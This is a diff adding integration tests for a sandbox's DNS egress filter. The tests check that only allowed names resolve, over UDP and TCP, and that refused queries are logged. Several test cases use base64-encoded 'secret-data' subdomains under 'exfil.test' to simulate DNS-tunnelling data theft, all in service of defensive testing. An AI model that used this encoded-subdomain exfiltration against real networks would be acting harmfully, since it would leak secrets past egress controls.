@@ -389,3 +389,65 @@ describe('allowOut domains on a --net tap node (egress-domains)', () => {
     assert.match(stdout, /\(2 more\)/, stdout);
   });
 });
+
+describe('--egress-dns filter: the node answers guest DNS and resolves only allowed names', () => {
+  before(async () => {
+    await assertNodeTopology();
+  });
+  const srv = useServer({ name: 'net-dns-filter', args: ['--net', 'tap', '--egress-dns', 'filter', ...EXTRA] });
+  const all = [];
+  srv.after(async () => {
+    await killQuietly(srv.sdkOpts, ...all);
+  });
+  const dnsLog = async () => (await (await fetch(`${CONTROL_URL}/dns`)).json()).names;
+  // A resolver-independent query: a raw DNS message over UDP or TCP to any server address.
+  const QUERY_PY = [
+    'import socket, struct, sys, random',
+    'name, server, proto = sys.argv[1], sys.argv[2], sys.argv[3]',
+    'q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)',
+    'q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", 1, 1)',
+    'if proto == "udp":',
+    '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (server, 53)); r = s.recv(4096)',
+    'else:',
+    '    s = socket.create_connection((server, 53), timeout=3); s.sendall(struct.pack(">H", len(q)) + q); r = s.recv(4096)[2:]',
+    'rcode = r[3] & 15',
+    'ancount = struct.unpack(">H", r[6:8])[0]',
+    'print(rcode, ancount)',
+  ].join('\n');
+
+  srv.test('allowed names resolve; every other query, to any server, over UDP or TCP, is REFUSED and never leaves', async () => {
+    await fetch(`${CONTROL_URL}/dns/reset`, { method: 'POST' });
+    const sbx = await Sandbox.create({ ...srv.sdkOpts, metadata: { run: RUN }, network: { allowOut: ['a.test'], denyOut: [ALL_TRAFFIC] } });
+    all.push(sbx);
+    await sbx.files.write('/tmp/q.py', QUERY_PY);
+    const q = async (name, server, proto) => (await sbx.commands.run(`python3 /tmp/q.py ${name} ${server} ${proto}`, { timeoutMs: 20_000 })).stdout.trim();
+    assert.equal(await q('a.test', '8.8.8.8', 'udp'), '0 1', 'an allowed name resolves');
+    assert.equal(await q('a.test', '8.8.8.8', 'tcp'), '0 1', 'over TCP too');
+    assert.equal(await q('a.test', OTHER, 'udp'), '0 1', 'whatever server the guest asks');
+    for (const [name, server, proto] of [
+      ['c2VjcmV0LWRhdGEx.exfil.test', '8.8.8.8', 'udp'],
+      ['c2VjcmV0LWRhdGEy.exfil.test', '8.8.8.8', 'tcp'],
+      ['c2VjcmV0LWRhdGEz.exfil.test', '203.0.113.53', 'udp'],
+      ['other.test', '8.8.8.8', 'udp'],
+    ]) {
+      assert.equal(await q(name, server, proto), '5 0', `${name} via ${server}/${proto} is REFUSED`);
+    }
+    const asked = await dnsLog();
+    assert.ok(!asked.some((n) => n.includes('exfil') || n === 'other.test'), `a refused name reached a DNS server: ${JSON.stringify(asked)}`);
+    assert.ok(asked.includes('a.test'), `the allowed name was forwarded: ${JSON.stringify(asked)}`);
+    // The guest's own resolver (getent) and a name-based flow work end to end.
+    assert.match((await sbx.commands.run('getent hosts a.test')).stdout, /203\.0\.113\.10/);
+    const ok = await sbx.commands.run(`curl -sS -m 8 -o /dev/null -w '%{http_code}' http://a.test/`);
+    assert.equal(ok.stdout, '200');
+    // The refusals are on the stream, named.
+    const res = await apiFetch(srv, `/sandboxes/${sbx.sandboxId}/network/denied?follow=false`);
+    assert.match(res.text, /"stage":"dns"/);
+    assert.match(res.text, /"name":"c2vjcmv0lwrhdgex\.exfil\.test"/);
+  });
+
+  srv.test('a policy that reaches any address resolves everything', async () => {
+    const sbx = await Sandbox.create({ ...srv.sdkOpts, metadata: { run: RUN }, network: { denyOut: ['198.51.100.0/24'] } });
+    all.push(sbx);
+    assert.match((await sbx.commands.run('getent hosts other.test')).stdout, /198\.51\.100\.8/);
+  });
+});
